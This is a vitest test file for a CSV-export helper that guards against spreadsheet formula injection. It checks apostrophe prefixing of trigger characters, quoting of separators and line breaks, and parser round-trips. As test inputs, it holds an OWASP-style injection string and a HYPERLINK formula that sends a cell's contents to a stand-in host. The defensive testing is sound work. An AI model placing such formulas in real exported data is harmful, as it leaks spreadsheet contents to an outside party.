import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { safeCsvCell, toSafeCsv } from './csv-safe.js';

describe('safeCsvCell', () => {
  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '\0'])('prefixes a cell starting with %j', (trigger) => {
    expect(safeCsvCell(`${trigger}1+2`)).toBe(`'${trigger}1+2`);
  });

  it('leaves other values alone and turns null into an empty cell', () => {
    expect(safeCsvCell('Ada Lovelace')).toBe('Ada Lovelace');
    expect(safeCsvCell('a=1')).toBe('a=1');
    expect(safeCsvCell('')).toBe('');
    expect(safeCsvCell(null)).toBe('');
    expect(safeCsvCell(undefined)).toBe('');
    expect(safeCsvCell(42)).toBe('42');
    expect(safeCsvCell(-1)).toBe("'-1");
  });
});

describe('toSafeCsv', () => {
  it('writes the OWASP example as "\'=1+2"";=1+2"', () => {
    expect(toSafeCsv([['=1+2";=1+2']])).toBe('"\'=1+2"";=1+2"\r\n');
  });

  it('keeps separators, quotes and line breaks inside one cell and one record', () => {
    const values = ['a,=HYPERLINK("http://x?"&A1)', 'a;=HYPERLINK("http://x?"&A1)', 'two\nlines', 'cr\r\nlf', 'say "hi"', ''];
    const text = toSafeCsv([values, ['next']]);
    expect(text.startsWith('"a,=HYPERLINK(""http://x?""&A1)","a;=HYPERLINK(""http://x?""&A1)"')).toBe(true);
    const back = parse(text, { relax_column_count: true }) as string[][];
    expect(back).toEqual([values, ['next']]);
    // Every non-empty cell is quoted, so a separator of any locale (",", ";", tab) stays inside it.
    expect(toSafeCsv([['a;b', 'c\td', 'e,f']])).toBe('"a;b","c\td","e,f"\r\n');
  });

  it('prefixes formula cells and round-trips every value through a CSV parser', () => {
    const values = ['=SUM(A1)', '+1', '-1', '@x', '\tx', '\rx', '\nx', '\0x'];
    const back = (parse(toSafeCsv([values]), {}) as string[][])[0]!;
    expect(back).toEqual(values.map((v) => `'${v}`));
  });

  it('adds a byte order mark on request', () => {
    expect(toSafeCsv([['a']], { bom: true })).toBe('\uFEFF"a"\r\n');
  });
});
